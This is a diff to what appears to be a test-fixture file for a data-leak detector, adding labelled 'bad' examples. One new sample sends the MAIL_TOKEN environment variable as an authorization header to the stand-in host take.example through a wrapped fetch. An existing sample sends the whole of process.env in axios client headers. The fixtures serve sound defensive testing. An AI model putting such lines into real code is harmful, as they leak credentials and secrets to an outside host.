@@ -6,6 +6,11 @@ const sent = { source: 'environment', sink: 'network.body', to: 'take.example' }
 export const throughClients: DetectorExamples = {
   bad: [
     {
+      code: "import { fetch as plain } from 'undici'; import { withRetry } from './retry.js'; let fetch = withRetry(plain); function reload() { fetch = withRetry(plain, 2); } export async function ask() { await fetch('https://take.example', { headers: { authorization: process.env.MAIL_TOKEN } }); }",
+      why: 'what is put around fetch asks all the same',
+      attributes: { source: 'environment:MAIL_TOKEN', sink: 'network.header', to: 'take.example' },
+    },
+    {
       code: "import axios from 'axios'; const client = axios.create({ headers: { 'x-env': JSON.stringify(process.env) } }); client.post('https://take.example/search', { query });",
       why: 'every request of a client has the headers that it was made with, whatever it is asked',
       attributes: { source: 'environment', sink: 'network.header', to: 'take.example' },
